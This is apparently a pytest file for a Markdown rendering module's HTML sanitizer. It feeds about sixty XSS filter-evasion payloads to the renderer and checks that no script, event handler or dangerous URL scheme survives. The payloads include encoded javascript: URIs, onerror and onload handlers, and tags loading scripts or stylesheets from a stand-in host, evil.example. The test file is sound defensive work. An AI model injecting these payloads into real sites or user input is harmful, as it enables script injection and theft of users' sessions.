from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from toolbox.content.markdown import markdown_render

# Filter-evasion payloads in the style of the OWASP XSS cheat sheet, both as raw HTML and
# hidden inside Markdown constructs.
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<IMG SRC="javascript:alert(1);">',
    "<IMG SRC=javascript:alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x oNeRrOr=alert(1)>",
    '<IMG SRC="jav\tascript:alert(1);">',
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    '<IMG SRC=" &#14;  javascript:alert(1);">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099"
    "&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    "![img](javascript:alert(1))",
    '[click](https://ok.example "title" onmouseover=alert(1))',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    '<div style="background-image: url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    '<p onmouseover="alert(1)">hover</p>',
    "<details open ontoggle=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<base href=javascript:alert(1)//>",
    "<!--<script>alert(1)</script>-->",
    "`<script>alert(1)</script>` and <script>alert(2)</script>",
    "```html\n<script>alert(1)</script>\n```",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<img """><script>alert(1)</script>">',
    "<<script>alert(1);//<</script>",
]

ALLOWED_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "code", "dd", "del", "div", "dl", "dt", "em", "h1", "h2", "h3",
    "h4", "h5", "h6", "hr", "i", "img", "li", "ol", "p", "pre", "s", "span", "strong", "sub", "sup",
    "table", "tbody", "td", "tfoot", "th", "thead", "tr", "ul",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src"}


class _Inspector(HTMLParser):
    """Collects what a browser would act on: every tag and attribute of the output."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes.extend((tag, name, value or "") for name, value in attrs)


def _inspect(html: str) -> _Inspector:
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector


def _assert_safe(html: str) -> None:
    found = _inspect(html)
    assert set(found.tags) <= ALLOWED_TAGS, html
    for tag, name, value in found.attributes:
        assert not name.startswith("on"), html
        assert name not in {"style", "background", "formaction", "action", "xlink:href"}, html
        if name in URL_ATTRIBUTES:
            # What a browser's URL parser sees (WHATWG): entities already decoded, tabs and
            # newlines removed anywhere, control characters and spaces trimmed at the ends.
            url = re.sub(r"[\t\n\r]", "", value).strip("".join(map(chr, range(0x21))))
            scheme = urlsplit(url).scheme.lower() if re.match(r"^[A-Za-z][A-Za-z0-9+.-]*:", url) else ""
            assert scheme in {"", "http", "https", "mailto"}, (tag, name, value)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_xss_payload_survives(payload: str) -> None:
    html = markdown_render(text=f"Some text\n\n{payload}\n\nMore text")

    _assert_safe(html)
    assert "<script" not in html.lower(), html


def test_the_inspector_catches_what_it_should() -> None:
    """The checks above are only worth something if they fail on dangerous HTML."""
    for dangerous in (
        "<script>x</script>",
        '<img src=x onerror="a()">',
        '<a href="jav&#x09;ascript:a()">x</a>',
        '<a href="data:text/html,x">x</a>',
        '<p style="x">y</p>',
    ):
        with pytest.raises(AssertionError):
            _assert_safe(dangerous)


def test_script_content_is_dropped_not_shown_as_text() -> None:
    html = markdown_render(text="Before <script>steal()</script> after")

    assert "steal" not in html
    assert "Before" in html
    assert "after" in html


def test_code_is_shown_escaped_not_run() -> None:
    html = markdown_render(text="```html\n<script>alert(1)</script>\n```")

    assert "&lt;script&gt;" in html
    assert '<code class="language-html">' in html


def test_markdown_features_render() -> None:
    html = markdown_render(
        text="# Title\n\nSome **bold** and *italic* and `code`.\n\n"
        "| Planet | Moons |\n|:--|--:|\n| Mars | 2 |\n\n"
        "- one\n- two\n\n1. first\n2. second\n\n> quoted\n\n"
        "[a link](https://example.com) and <mailto:teacher@example.com>\n\n"
        "![diagram](https://example.com/cell.png)"
    )

    assert "<h1>Title</h1>" in html
    assert "<strong>bold</strong>" in html
    assert "<em>italic</em>" in html
    assert "<code>code</code>" in html
    assert '<th align="left">Planet</th>' in html
    assert '<td align="right">2</td>' in html
    assert "<ul>" in html
    assert "<ol>" in html
    assert "<blockquote>" in html
    assert '<img alt="diagram" src="https://example.com/cell.png">' in html
    assert "mailto:" in html


def test_links_get_rel_noopener_and_keep_safe_schemes() -> None:
    html = markdown_render(text="[web](https://example.com) [plain](http://example.com) [mail](mailto:a@example.com)")

    assert html.count('rel="noopener noreferrer"') == 3
    assert 'href="https://example.com"' in html
    assert 'href="http://example.com"' in html
    assert 'href="mailto:a@example.com"' in html


def test_a_caller_supplied_rel_or_target_is_not_kept() -> None:
    html = markdown_render(text='<a href="https://example.com" rel="opener" target="_blank" class="btn">x</a>')

    assert html == '<p><a href="https://example.com" rel="noopener noreferrer">x</a></p>'


def test_only_code_language_classes_survive() -> None:
    html = markdown_render(text='<span class="admin-banner">x</span>\n\n<code class="language-python">y</code>')

    assert "admin-banner" not in html
    assert 'class="language-python"' in html
